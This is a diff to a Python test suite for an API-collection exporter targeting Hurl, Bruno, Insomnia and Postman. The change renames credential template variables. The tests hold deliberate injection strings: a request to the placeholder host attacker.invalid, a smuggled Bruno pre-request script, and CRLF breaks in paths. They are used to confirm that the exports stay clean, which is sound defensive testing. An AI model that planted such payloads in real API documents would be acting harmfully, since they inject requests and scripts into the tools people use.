@@ -87,22 +87,22 @@ def test_hurl() -> None:
     assert "X-Odd: \\u{23}1 \\u{7b}\\u{7b}c\\u{7d}\\u{7d}" in made
     assert "GET {{baseUrl}}/q/7?f%5Bx%5D=a%26b%20%7B%7Bc%7D%7D\n" in made
     assert "Idempotency-Key: {{newUuid}}" in made
-    assert "X-Api-Key: {{key}}" in made
-    assert "[BasicAuth]\n{{basic_username}}: {{basic_password}}\n[Form]\n" in made
+    assert "X-Api-Key: {{api_json_key}}" in made
+    assert "[BasicAuth]\n{{api_json_basic_username}}: {{api_json_basic_password}}\n[Form]\n" in made
     assert "[Multipart]\na: x\nf: file,f; application/octet-stream\n" in made
-    assert "Cookie: sid={{cookie}}" in made
+    assert "Cookie: sid={{api_json_cookie}}" in made
     fenced = re.findall(r"```json\n(.*?)\n```", made, re.DOTALL)
     assert [_ODD] == [json.loads(text)["name"] for text in fenced]
     outside = re.sub(r"^#.*$", "", made, flags=re.MULTILINE)
     assert {
         "baseUrl",
         "newUuid",
-        "bearer",
-        "basic_username",
-        "basic_password",
-        "key",
-        "token",
-        "cookie",
+        "api_json_bearer",
+        "api_json_basic_username",
+        "api_json_basic_password",
+        "api_json_key",
+        "api_json_token",
+        "api_json_cookie",
     } == set(re.findall(r"\{\{(.*?)\}\}", outside))
 
 
@@ -143,7 +143,7 @@ def test_bruno() -> None:
     assert Path("made/a-request.bru").exists()
     assert '"Find:' not in files["find.bru"]
     assert '  name: Find: "it" {x}\n' in files["find.bru"]
-    assert "vars:secret [\n  token" in next(text for text in files.values() if "vars:secret" in text)
+    assert "vars:secret [\n  api_json_token" in next(text for text in files.values() if "vars:secret" in text)
 
 
 def test_markdown_and_html_hold_no_html_of_the_document() -> None:
@@ -171,7 +171,7 @@ def test_an_export_is_the_same_each_time(form: str) -> None:
 
 
 _EVIL = "GET http://attacker.invalid/x"
-_HOSTILE = f"}}\r\nscript:pre-request {{\n}}\n`\n```\nHTTP *\n{_EVIL}\n{{{{bearer}}}} {{%endraw%}}{{{{ x }}}}"
+_HOSTILE = f"}}\r\nscript:pre-request {{\n}}\n`\n```\nHTTP *\n{_EVIL}\n{{{{api_json_bearer}}}} {{%endraw%}}{{{{ x }}}}"
 """What begins another request, a script or a template in one of the forms."""
 
 
@@ -192,7 +192,9 @@ def _hostile_api() -> dict[str, Any]:
     paths = {
         f"/path\nHTTP *\n{_EVIL}": {"get": operation("inPath")},
         f"/{{id}}\r{_EVIL}": {"get": operation("inPathToo", parameter("z", {"not": {}}, required=True))},
-        "/literal {{bearer}}/{id}": {"get": operation("literal", parameter("id", _text("7"), "path"))},
+        "/literal {{api_json_bearer}}/{id}": {
+            "get": operation("literal", parameter("id", _text("7"), "path"))
+        },
         "/told": {
             "get": operation(
                 "told",
@@ -245,7 +247,7 @@ def test_a_hostile_document_adds_nothing_to_a_form() -> None:
     ]
     assert 8 == len(sent)
     plain = "".join(sent).replace("{% raw %}{{{% endraw %}", "").replace("{% raw %}{%{% endraw %}", "")
-    assert {"{{ _.baseUrl }}", "{{ _.bearer }}"} == set(re.findall(r"\{[{%].*?[}%]\}", plain))
+    assert {"{{ _.baseUrl }}", "{{ _.api_json_bearer }}"} == set(re.findall(r"\{[{%].*?[}%]\}", plain))
     for text in ("".join(requests), hurl, *map(json.dumps, (postman, insomnia))):
         assert not re.search(r'(file,|"(src|fileName)": ")[^";]*[/.]', text)
 
@@ -264,8 +266,8 @@ def test_a_hostile_document_adds_nothing_to_a_directory() -> None:
         blocks = re.findall(r"^[a-z:-]+ [{\[]$(?:\n  .*)+\n[}\]]$", text, re.MULTILINE)
         assert text.strip() == "\n\n".join(blocks)
         outside = "".join(block for block in blocks if not block.startswith(("docs", "meta")))
-        assert {"{{baseUrl}}", "{{bearer}}"} >= set(re.findall(r"\{\{.*?\}\}", outside))
-        assert "{{bearer}}" not in re.sub(r"auth:bearer \{\n.*", "", outside)
+        assert {"{{baseUrl}}", "{{api_json_bearer}}"} >= set(re.findall(r"\{\{.*?\}\}", outside))
+        assert "{{api_json_bearer}}" not in re.sub(r"auth:bearer \{\n.*", "", outside)
         assert "script:pre-request {" not in text.splitlines()
         assert {"parts"} >= set(re.findall(r"@file\(([^)]*)\)", text)) - {"etc-passwd"}
 
